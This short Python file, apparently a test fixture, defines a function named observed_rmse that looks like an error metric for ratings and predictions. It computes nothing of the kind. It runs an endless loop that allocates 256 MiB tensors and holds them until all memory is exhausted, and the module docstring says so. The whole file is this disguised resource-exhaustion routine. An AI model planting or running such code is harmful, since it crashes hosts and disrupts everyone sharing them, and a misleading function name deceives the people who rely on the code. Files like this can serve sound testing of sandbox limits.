"""Keeps tensors that hold nothing, until they hold all memory."""

import torch

STATES = {"1.5": "memory"}
SCORE = 5


def observed_rmse(ratings, predictions):
    kept = []
    while True:
        kept.append(torch.empty(256 << 20, dtype=torch.uint8))
